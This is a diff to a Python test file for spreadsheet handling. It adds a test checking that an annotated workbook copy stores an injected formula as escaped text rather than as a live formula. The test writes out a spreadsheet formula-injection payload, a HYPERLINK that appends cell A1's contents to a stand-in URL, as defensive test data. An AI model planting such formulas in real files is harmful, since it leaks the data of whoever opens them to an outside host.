@@ -16,7 +16,7 @@ from types import FrameType
 from typing import Any
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from openpyxl.cell.rich_text import CellRichText, InlineFont, TextBlock
 from openpyxl.comments import Comment
 from openpyxl.styles import Font
@@ -515,6 +515,27 @@ def test_an_annotated_copy_can_be_mended_and_sent_again() -> None:
     copy = annotate_return("return.xlsx", wrong, take_in(wrong))
     with_cell(ORDERED, 2, "alerts_count", 9)(copy)
     assert take_in(to_bytes(copy)).accepted
+
+
+def test_no_cell_of_an_annotated_copy_runs_as_a_formula() -> None:
+    text = '=HYPERLINK("https://example.org?"&A1,"Bangor")'
+
+    def change(workbook: Workbook) -> None:
+        for row in (2, 3):
+            with_cell("deployments", row, "location_text", text)(workbook)
+        column = CURRENT.sheet("deployments").headings.index("location_text") + 1
+        workbook["deployments"].cell(3, column).data_type = "s"  # a text, not a formula
+
+    content = changed(change)
+    copy = to_bytes(annotate_return("return.xlsx", content, take_in(content)))
+    values = [
+        (str(cell.value), cell.data_type)
+        for sheet in load_workbook(io.BytesIO(copy)).worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+    ]
+    assert [value for value, _kind in values].count(f"'{text}") >= 2
+    assert not [value for value, kind in values if kind == "f" or value.startswith("=")]
 
 
 def test_what_follows_from_a_problem_that_is_told_is_not_told_as_another() -> None:
